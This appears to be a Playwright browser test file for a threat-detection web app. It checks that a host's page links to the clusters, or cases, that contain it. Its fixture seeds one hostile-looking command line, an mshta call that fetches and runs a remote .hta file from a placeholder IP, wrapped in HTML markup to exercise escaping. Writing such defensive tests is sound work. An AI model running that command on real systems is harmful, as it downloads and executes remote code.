"""A host's selection lists the cases that hold it, as links (review U5 #3), in Chromium.

Against the real service: a rare command on six hosts sent through ``POST /v1/events`` (one fan-out
cluster, real detection) among quiet hosts that ran only notepad.  A host opened from the header's
search showed its properties, neighbours and Timeline, and nothing said it was one of a cluster's
hosts: the analyst had no way from the host back to its case.
"""

from __future__ import annotations

import pytest

from tests.web.conftest import QUIET_HOSTS, RARE_HOSTS, rare_command_site
from tests.web.test_hostile_strings import search, sign_in

pytestmark = pytest.mark.browser

RARE = "mshta.exe http://198.51.100.7/<b>lure</b>.hta"


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    with rare_command_site(tmp_path_factory.mktemp("host-cases") / "data", RARE) as running:
        yield running


def _open_host(page, host: str) -> None:
    search(page, host)
    page.locator("#search-results li", has_text=host).first.click()
    page.wait_for_selector(".host-cases")


def test_a_host_links_to_the_case_it_is_in(page, site) -> None:
    (cluster,) = [c for c in site.api("GET", "/v1/clusters")["items"] if set(c["hosts"]) == set(RARE_HOSTS)]
    site.api("PATCH", f"/v1/clusters/{cluster['id']}", json={"status": "investigating", "verdict": "malicious"})
    sign_in(page, site)
    _open_host(page, RARE_HOSTS[2])
    link = page.locator(f".host-cases-list li[data-cluster-id='{cluster['id']}'] a")
    link.wait_for()
    assert page.inner_text(".host-cases p") == "1 case names it:"
    assert link.inner_text().startswith(f"{cluster['score']:.1f} · ")
    assert page.inner_text(f".host-cases-list li[data-cluster-id='{cluster['id']}'] .muted") == " (investigating, malicious)"

    link.click()
    page.wait_for_selector("body[data-state=cluster-ready]")
    assert page.url.endswith(f"#/clusters/{cluster['id']}")
    assert page.watch.errors == []


def test_a_host_in_no_case_says_so(page, site) -> None:
    sign_in(page, site)
    _open_host(page, QUIET_HOSTS[0])
    page.wait_for_function("() => document.querySelector('.host-cases p').textContent === 'in no case of the queue'")
    assert page.locator(".host-cases-list li").count() == 0
    assert page.watch.errors == []
